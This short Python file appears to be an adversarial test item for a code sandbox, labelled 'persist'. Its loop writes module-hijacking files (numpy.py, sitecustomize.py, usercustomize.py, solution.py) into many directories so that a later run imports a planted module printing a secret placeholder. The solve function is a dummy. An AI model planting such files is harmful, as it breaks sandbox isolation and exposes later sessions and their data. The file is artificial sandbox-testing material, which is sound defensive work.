# class: persist
# success: the next run imports a planted numpy
import os

for folder in (".", "/tmp", "/box", "/box/home", os.path.expanduser("~"), "/site", "/python/lib"):
    for name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "solution.py"):
        try:
            open(os.path.join(folder, name), "w").write("print('{{secret}}')")
        except OSError:
            pass

def solve(x):
    return 0
